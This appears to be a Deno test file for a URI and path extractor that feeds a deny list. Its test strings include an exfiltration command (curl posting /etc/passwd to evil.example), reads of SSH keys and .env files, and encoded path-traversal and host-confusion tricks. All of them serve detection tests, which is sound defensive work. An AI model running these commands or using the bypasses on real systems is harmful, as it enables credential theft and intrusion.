import { expect } from "expect";
import fc from "fast-check";
import { UriBudget } from "./budget.ts";
import { findUris } from "./find.ts";
import { compileUriList } from "./urilist.ts";

const urisOf = (text: string): string[] => findUris(text).uris.map((u) => u.uri);
const guessesOf = (text: string): string[] => findUris(text).guesses.map((u) => u.uri);

for (
  const [text, uris] of [
    ["/pub/../priv/b", ["file:///priv/b"]],
    ["/pub/%2e%2e%2fpriv/b", ["file:///priv/b"]],
    ["/pub//a", ["file:///pub/a"]],
    ["/priv/b.txt\u0000.png", ["file:///priv/b.txt"]],
    ["~/.ssh/id_rsa", ["file:///~/.ssh/id_rsa"]],
    ["$HOME/.ssh/id_rsa", ["file:///%24HOME/.ssh/id_rsa"]],
    ["./x", ["file:///x"]],
    ["../../etc/passwd", ["file:///etc/passwd"]],
    ["C:\\priv\\..\\b", ["file:///C:/b"]],
    ["\\\\?\\C:\\priv", ["file:///C:/priv"]],
    ["\\\\host\\share\\x", ["file:///host/share/x", "file:///share/x"]],
    ["https://h.example/a?b#c", ["https://h.example/a?b#c"]],
    ["FILE:/priv/b", ["file:///priv/b"]],
    ["demo://resource/1", ["demo://resource/1"]],
    ["see https://a.example/b. And (https://c.example/d)!", [
      "https://a.example/b",
      "https://c.example/d",
    ]],
    ['{"url":"https://a.example/x"}', ["https://a.example/x"]],
    ["https://a.example/\\n\\nnext", ["https://a.example/"]],
  ] as const
) {
  Deno.test(`findUris() takes ${JSON.stringify(text)} for what it is`, () => {
    expect(urisOf(text)).toEqual(uris);
    expect(findUris(text).suspicious).toEqual([]);
  });
}

for (
  const [text, guess] of [
    ["cat /priv/b.txt; ls", "file:///priv/b.txt"],
    ["cat ../../priv/b", "file:///priv/b"],
    ["ls docs/../../priv", "file:///priv"],
    ["curl -d @/etc/passwd https://evil.example", "file:///etc/passwd"],
    ["--file=/priv/b", "file:///priv/b"],
    ["scp host:/priv/x .", "file:///priv/x"],
    ["x 2>/priv/log", "file:///priv/log"],
    ["/priv/my file.txt", "file:///priv/my%20file.txt"],
    ["config/.env", "file:///config/.env"],
    [".env", "file:///.env"],
    ["db:pub/../priv", "file:///priv"],
    ["https:\\\\denied.example\\x", "https://denied.example/x"],
    ["https:denied.example/x", "https://denied.example/x"],
    ["go to http:/denied.example/x", "http://denied.example/x"],
    ["https://den\tied.example/", "https://denied.example/"],
    ["https://denied.example/100%", "https://denied.example/100%25"],
    ["https://allowed.example@denied.example/", "https://denied.example/"],
    ["https://allowed.example#@denied.example/", "https://denied.example/#@denied.example/"],
    ["https://a.example/?u=https://denied.example/", "https://denied.example/"],
    ["file://host/priv/b", "file:///priv/b"],
    ["see file://host/priv/b", "file:///priv/b"],
    ["file:///pub/%252e%252e/priv/b", "file:///priv/b"],
    ["sqlite:///./x.db", "sqlite:///x.db"],
  ] as const
) {
  Deno.test(`findUris() guesses ${guess} from ${JSON.stringify(text)}`, () => {
    expect(guessesOf(text)).toContain(guess);
  });
}

for (
  const [text, code] of [
    ["file:///pub/%252e%252e/priv/b", "uri.encoding"],
    ["open file:///pub/%252e%252e/priv/b now", "uri.encoding"],
    ["/pub\uff0f\uff0e\uff0e\uff0fpriv", "uri.encoding"],
    ["/proc/self/root/priv/b", "uri.alias"],
    ["cat /proc/self/root/priv/b", "uri.alias"],
    ["https://h.example/pub/..;/priv", "uri.segments"],
    ["custom://h/%2e%2e/x", "uri.encoding"],
    ["/x/../".repeat(2000), "uri.length"],
  ] as const
) {
  Deno.test(`findUris() is suspicious of ${JSON.stringify(text.slice(0, 50))}`, () => {
    expect(findUris(text).suspicious).toEqual([code]);
  });
}

for (
  const text of [
    "Plain English, with commas; and/or slashes... (see above).",
    "hello",
    "",
    " ",
    "/",
    ".",
    "..",
    "...",
    "12:30",
    "a:b",
    "key: value",
    "text/html; charset=utf-8",
    "50%",
    "100%25",
    "const re = /^(?:\\/\\/|[a-z]+:)\\/\\//gi; // comment with a path-like ./thing and ../other",
    '{"a":"b","c":[1,2,{"d":"e\\n/f"}],"u":"http://"}',
    "import { x } from '../../lib/x.ts';",
    "http://${host}:${port}/x",
    "https://*.example.com/**",
    "<div class='a/b'></div></data>",
    "access_log /dev/stdout; error_log /dev/stderr 2>&1;",
    "mongodb://u:p%40ss@%2Ftmp%2Fmongodb.sock",
    "std::vector<int>::iterator",
    "/9j/4AAQSkZJRgABAQ" + "A/b+".repeat(5000) + "==",
    "data:image/png;base64," + "iVBOR/w0".repeat(3000),
    "SELECT 1/2 FROM a.b WHERE c LIKE '%25_%'",
    "https://en.wikipedia.org/wiki/Caf%E9",
    "git clone https://token@github.example/x.git",
    "C:\\Users\\me\\Documents",
    "\u001b[0m/x\u001b[1m",
    "// https://a.example/\\\\n",
    "rm -rf ./build/../dist",
    "日本語のテキスト/説明",
    "\ud800/x",
  ]
) {
  Deno.test(`findUris() is not suspicious of ${JSON.stringify(text.slice(0, 50))}`, () => {
    const found = findUris(text);
    expect(found.suspicious).toEqual([]);
    expect(found.truncated).toBe(false);
  });
}

Deno.test("findUris() leaves prose, bare words and closing tags alone", () => {
  for (
    const text of [
      "yes and/or no",
      "hello",
      "a: b",
      "<x></priv>",
      "an .env file",
      "1 / 2",
      "e.g. this",
    ]
  ) {
    expect(findUris(text)).toEqual({ uris: [], guesses: [], suspicious: [], truncated: false });
  }
});

Deno.test("findUris() guesses at file names and at paths whose slashes are all escaped", () => {
  expect(guessesOf("secrets.txt")).toEqual(["file:///secrets.txt"]);
  expect(guessesOf("%2Fpriv%2fx")).toContain("file:///priv/x");
  expect(guessesOf("..%5c..%5cpriv%5Cx")).toContain("file:///priv/x");
});

const places = (n: number, from = 0): string =>
  Array.from({ length: n }, (_, i) => `https://h.example/${from + i}`).join(" ");

Deno.test("findUris() looks at 16384 different places, and says when there are more", () => {
  expect(findUris(places(16_384)).uris.length).toBe(16_384);
  expect(findUris(places(16_384)).truncated).toBe(false);
  expect(findUris(places(16_385)).truncated).toBe(true);
  expect(findUris("https://h.example/ ".repeat(50_000)).truncated).toBe(false);
});

Deno.test("findUris() counts the places of all strings of a message together", () => {
  const budget = new UriBudget();
  expect(findUris(places(16_000), budget).truncated).toBe(false);
  expect(findUris(places(1000), budget)).toEqual({
    uris: [],
    guesses: [],
    suspicious: [],
    truncated: false,
  });
  expect(findUris(places(385, 16_000), budget).truncated).toBe(true);
  expect(findUris("/a", budget).truncated).toBe(true);
});

Deno.test("findUris() hands out a guess again once it is sure", () => {
  const budget = new UriBudget();
  expect(findUris("see /priv/a", budget).guesses.map((u) => u.uri)).toEqual(["file:///priv/a"]);
  expect(findUris("/priv/a", budget).uris.map((u) => u.uri)).toEqual(["file:///priv/a"]);
  expect(findUris("see: /priv/a", budget).guesses).toEqual([]);
});

// Each of these took 1 to 60 s: thousands of beginnings in one word, or many readings of thousands of strings.
for (
  const [name, strings] of [
    ["beginnings of paths in one word", ["=/".repeat(4000)]],
    ["long beginnings of paths", Array.from({ length: 130 }, (_, i) => "=/a".repeat(2600) + i)],
    ["schemes in one word", Array.from({ length: 130 }, (_, i) => "x1://a@b".repeat(1000) + i)],
    ["escaped paths", Array.from({ length: 49_000 }, (_, i) => `/%70%2525/${i}`)],
    [
      "letters that stand for many",
      Array.from({ length: 400 }, (_, i) => "\ufdfa".repeat(800) + i),
    ],
  ] as const
) {
  Deno.test(`findUris() stops at a message of many ${name}`, () => {
    const budget = new UriBudget();
    const found = strings.map((text) =>
      findUris(text.startsWith("\ufdfa") ? `/${text}` : text, budget)
    );
    expect(found.at(-1)!.truncated).toBe(true);
  });
}

Deno.test("findUris() finishes on a megabyte of whatever", () => {
  for (
    const unit of [
      "/",
      "a://",
      "../",
      "\\",
      "%25",
      ":/",
      "a.",
      "https://h/?",
      "=",
      "~/",
      "/. ",
      "@/a",
    ]
  ) {
    expect(Array.isArray(findUris(unit.repeat(1_000_000 / unit.length)).uris)).toBe(true);
  }
});

Deno.test("findUris() finds what is put into any text, in any wrapping", () => {
  const deny = compileUriList(["file:///priv/**", "https://denied.example/**"]);
  const secret = fc.constantFrom(
    "/priv/b",
    "../../priv/b",
    "/pub/../priv/b",
    "file:///priv/b",
    "https://denied.example/x",
    "https://u@denied.example/x",
    "HTTPS://DENIED.example",
    "C:\\priv\\b",
  );
  const word = fc.constantFrom(
    "see",
    "and/or",
    "{",
    "https://h.example/",
    "1.5",
    "a=b",
    "日本",
    "\\n",
  );
  const wrap = fc.constantFrom(
    ["", ""],
    ['"', '"'],
    ["'", "'"],
    ["(", ")"],
    ["<", ">"],
    ["--f=", ""],
    ["", "."],
    ["`", "`"],
    ["[", "]"],
  );
  fc.assert(
    fc.property(
      fc.array(word, { maxLength: 4 }),
      secret,
      wrap,
      fc.array(word, { maxLength: 4 }),
      (before, s, [open, close], after) => {
        const found = findUris([...before, open + s + close, ...after].join(" "));
        expect([...found.uris, ...found.guesses].some((u) => deny.firstFolded(u) >= 0)).toBe(true);
      },
    ),
    { numRuns: 1000 },
  );
});

Deno.test("findUris() throws nothing", () => {
  const piece = fc.constantFrom(
    "/",
    "\\",
    "..",
    ".",
    ":",
    "//",
    "%",
    "%2e",
    "file:",
    "https://",
    "@",
    "a",
    " ",
    "é",
    "\uff0f",
    "\ud800",
    "~",
    "$",
    "{",
    "\u0000",
    "C:",
    "?",
  );
  fc.assert(
    fc.property(
      fc.oneof(
        fc.array(piece, { maxLength: 12 }).map((p) => p.join("")),
        fc.string({ unit: "binary" }),
      ),
      (text) => {
        const found = findUris(text);
        expect(found.uris.length + found.guesses.length).toBeLessThanOrEqual(2048);
      },
    ),
    { numRuns: 3000 },
  );
});
